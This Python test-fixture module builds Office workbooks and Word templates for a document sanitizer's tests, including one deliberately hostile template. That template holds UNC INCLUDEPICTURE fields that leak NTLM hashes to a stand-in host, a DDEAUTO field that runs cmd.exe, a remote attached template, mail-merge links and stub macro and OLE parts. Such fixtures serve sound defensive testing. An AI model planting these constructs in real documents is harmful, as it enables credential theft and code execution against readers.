"""Hostile Office files, each built here when a test asks for it (none is kept in the repository)."""

from __future__ import annotations

import io
import os
import struct
import zipfile
import zlib
from collections.abc import Iterable

# Every address a hostile file points at names this host; the cleaned files must not.
HOSTILE = "angripare.example"
PROFILE_HEADER = "Mjölby kommun – grafisk profil"
HEADING_COLOUR = "123456"

Content = bytes | Iterable[bytes]


def tiny_png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\x12\x34\x56"))
        + chunk(b"IEND", b"")
    )


def zip_bytes(entries: dict[str, Content], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip of ``entries``; a value may be an iterable of chunks, streamed in (large parts)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, content in entries.items():
            if isinstance(content, bytes):
                archive.writestr(name, content)
            else:
                with archive.open(name, "w", force_zip64=False) as stream:
                    for chunk in content:
                        stream.write(chunk)
    return buffer.getvalue()


def entries_of(content: bytes) -> dict[str, bytes]:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return {name: archive.read(name) for name in archive.namelist()}


# Workbooks ------------------------------------------------------------------------------------

SPREADSHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def workbook(sheets: dict[str, Content], extra: dict[str, Content] | None = None) -> bytes:
    """A workbook written by hand: the sheets named as given, each part's XML as given."""
    types = [
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>',
        '<Default Extension="xml" ContentType="application/xml"/>',
        '<Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>',
    ]
    listed, relationships, parts = [], [], {}
    for number, (name, xml) in enumerate(sheets.items(), start=1):
        types.append(
            f'<Override PartName="/xl/worksheets/sheet{number}.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        )
        listed.append(f'<sheet name="{name}" sheetId="{number}" r:id="rId{number}"/>')
        relationships.append(
            f'<Relationship Id="rId{number}" Target="worksheets/sheet{number}.xml" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>'
        )
        parts[f"xl/worksheets/sheet{number}.xml"] = xml
    entries: dict[str, Content] = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?><Types '
            'xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            + "".join(types)
            + "</Types>"
        ).encode(),
        "_rels/.rels": (
            b'<?xml version="1.0" encoding="UTF-8"?><Relationships '
            b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
            b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
            b'Target="xl/workbook.xml"/></Relationships>'
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{SPREADSHEET}" '
            f'xmlns:r="{RELATIONSHIPS}">'
            f"<sheets>{''.join(listed)}</sheets></workbook>"
        ).encode(),
        "xl/_rels/workbook.xml.rels": (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships '
            'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + "".join(relationships)
            + "</Relationships>"
        ).encode(),
        **parts,
        **(extra or {}),
    }
    return zip_bytes(entries)


def sheet(rows: Content, *, dimension: str | None = None, before_rows: bytes = b"") -> Iterable[bytes]:
    """A worksheet's XML around ``rows`` (the content of sheetData), streamed."""
    yield f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{SPREADSHEET}">'.encode()
    if dimension:
        yield f'<dimension ref="{dimension}"/>'.encode()
    yield b"<sheetData>" + before_rows
    if isinstance(rows, bytes):
        yield rows
    else:
        yield from rows
    yield b"</sheetData></worksheet>"


def text_row(*texts: str) -> bytes:
    cells = "".join(f'<c t="inlineStr"><is><t>{text}</t></is></c>' for text in texts)
    return f"<row>{cells}</row>".encode()


def plan_header() -> bytes:
    return text_row("Nämnd", "År", "Titel")


def repeated(piece: bytes, times: int, *, per_chunk: int = 10_000) -> Iterable[bytes]:
    block = piece * per_chunk
    for _ in range(times // per_chunk):
        yield block
    yield piece * (times % per_chunk)


def poorly_packed(size: int) -> Iterable[bytes]:
    """Text that deflate packs only some 7 times (one bit of chance per byte), so that its size
    and not its packing is what a limit meets."""
    table = bytes(b"ab"[index & 1] for index in range(256))
    left = size
    while left > 0:
        step = min(left, 1 << 20)
        yield os.urandom(step).translate(table)
        left -= step


# Word templates -------------------------------------------------------------------------------


def word_template(*, header: str = PROFILE_HEADER, picture: bool = True) -> bytes:
    """A municipality's graphic profile: coloured headings, a header with its text and logotype."""
    from docx import Document
    from docx.shared import Cm, RGBColor

    template = Document()
    template.styles["Heading 1"].font.color.rgb = RGBColor.from_string(HEADING_COLOUR)
    section_header = template.sections[0].header
    section_header.paragraphs[0].text = header
    if picture:
        section_header.add_paragraph().add_run().add_picture(io.BytesIO(tiny_png()), width=Cm(1))
    template.add_paragraph("Mallens exempeltext som inte ska följa med.")
    buffer = io.BytesIO()
    template.save(buffer)
    return buffer.getvalue()


R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
UNC = rf"\\{HOSTILE}\share"


def _field(code: str, result: str) -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'<w:r><w:instrText xml:space="preserve"> {code} </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>{result}</w:t></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _relationship(rid: str, kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{R}/{kind}" Target="{target}"{mode}/>'


def _add_relationships(xml: bytes, *relationships: str) -> bytes:
    return xml.replace(b"</Relationships>", "".join(relationships).encode() + b"</Relationships>")


HOSTILE_HEADER = (
    # Word fetches the picture from the share on opening, and hands over the reader's NTLM hash.
    "<w:p>" + _field(rf'INCLUDEPICTURE "{UNC}\logo.png" \d', "[bild]") + "</w:p>"
    "<w:p>" + _field(f'HYPERLINK "http://{HOSTILE}/spar?id=1"', "Kontakta oss") + "</w:p>"
    '<w:p><w:r><w:t xml:space="preserve">Sida </w:t></w:r>' + _field(r"PAGE \* MERGEFORMAT", "1") + "</w:p>"
    "<w:p>" + _field(r'DDEAUTO c:\\Windows\\System32\\cmd.exe "/k calc.exe"', "Uppdaterar") + "</w:p>"
    # A field inside a field's code: both go, the result of the outer one stays.
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT '
    '"</w:instrText></w:r>' + _field("DOCVARIABLE kalla", UNC) + '<w:r><w:instrText xml:space="preserve">" '
    '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
    "<w:r><w:t>Inkluderad text</w:t></w:r>"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{UNC}\\text.docx&quot; "><w:r><w:t>Enkel fälttext</w:t>'
    "</w:r></w:fldSimple></w:p>"
    '<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>www.mjolby.se</w:t></w:r></w:hyperlink></w:p>'
    # A picture linked, not embedded: fetched from the host when shown.
    '<w:p><w:r><w:drawing><wp:inline xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<wp:extent cx="360000" cy="360000"/>'
    '<wp:docPr id="7" name="Länkad bild"/><a:graphic><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="7" '
    'name="pixel.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="rIdRemote"/><a:stretch>'
    '<a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="360000" '
    'cy="360000"/></a:xfrm><a:prstGeom prst="rect"/></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r></w:p>"
    # An old-style (VML) picture whose source is a file on the host, and an OLE object.
    f'<w:p><w:r><w:pict><v:shape id="s1" style="width:10pt;height:10pt"><v:imagedata r:id="rId1" '
    f'o:href="file:///{UNC}\\vml.png" src="file:///{UNC}\\vml.png"/></v:shape></w:pict></w:r></w:p>'
    '<w:p><w:r><w:object><v:shape id="s2" style="width:10pt;height:10pt"/><o:OLEObject Type="Link" '
    f'ProgID="Excel.Sheet.12" ShapeID="s2" r:id="rIdOle" UpdateMode="Always"/></w:object></w:r></w:p>'
)


def hostile_word_template() -> bytes:
    """The profile template with everything that makes Word reach out, or run code, added."""
    entries = entries_of(word_template())
    entries["word/settings.xml"] = (
        entries["word/settings.xml"]
        .replace(
            b"<w:defaultTabStop",
            b'<w:documentProtection w:edit="readOnly" w:enforcement="1"/><w:attachedTemplate r:id="rIdEvil"/>'
            b'<w:linkStyles/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
            b'<w:dataType w:val="native"/>'
            + f'<w:connectString w:val="Data Source={UNC}\\kontakter.xlsx"/>'.encode()
            + b'<w:query w:val="SELECT * FROM `Blad1$`"/><w:dataSource r:id="rIdData"/></w:mailMerge>'
            b"<w:defaultTabStop",
        )
        .replace(
            b"<w:rsids>",
            f'<w:docVars><w:docVar w:name="kalla" w:val="{UNC}"/></w:docVars><w:rsids>'.encode(),
        )
    )
    entries["word/_rels/settings.xml.rels"] = (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + _relationship("rIdEvil", "attachedTemplate", f"file:///{UNC}\\evil.dotm")
        + _relationship("rIdData", "mailMergeSource", f"file:///{UNC}\\kontakter.xlsx")
        + "</Relationships>"
    ).encode()
    entries["word/header1.xml"] = entries["word/header1.xml"].replace(
        b"</w:hdr>", HOSTILE_HEADER.encode() + b"</w:hdr>"
    )
    entries["word/_rels/header1.xml.rels"] = _add_relationships(
        entries["word/_rels/header1.xml.rels"],
        _relationship("rIdWeb", "hyperlink", f"http://{HOSTILE}/webb"),
        _relationship("rIdRemote", "image", f"http://{HOSTILE}/pixel.png"),
        _relationship("rIdOle", "oleObject", "embeddings/oleObject1.bin", external=False),
    )
    entries["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0" + HOSTILE.encode()
    entries["word/vbaProject.bin"] = b"Attribute VB_Name = " + HOSTILE.encode()
    entries["word/afchunk.mht"] = f"<html><img src='http://{HOSTILE}/x.png'></html>".encode()
    entries["word/glossary/document.xml"] = (
        '<?xml version="1.0" encoding="UTF-8"?><w:glossaryDocument '
        f'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:docParts/>{HOSTILE}'
        "</w:glossaryDocument>"
    ).encode()
    entries["word/_rels/document.xml.rels"] = _add_relationships(
        entries["word/_rels/document.xml.rels"],
        _relationship("rIdVba", "vbaProject", "vbaProject.bin", external=False).replace(
            f"{R}/vbaProject", "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
        ),
        _relationship("rIdChunk", "aFChunk", "afchunk.mht", external=False),
        _relationship("rIdGlossary", "glossaryDocument", "glossary/document.xml", external=False),
        _relationship("rIdLink", "hyperlink", f"file:///{UNC}\\dokument.docx"),
    )
    entries["word/document.xml"] = entries["word/document.xml"].replace(
        b"<w:sectPr", b'<w:altChunk r:id="rIdChunk"/><w:sectPr'
    )
    entries["docProps/app.xml"] = entries["docProps/app.xml"].replace(
        b"<Template>Normal.dotm</Template>", f"<Template>{UNC}\\evil.dotm</Template>".encode()
    )
    entries["[Content_Types].xml"] = entries["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        b'<Default Extension="mht" ContentType="message/rfc822"/></Types>',
    )
    return zip_bytes(entries)
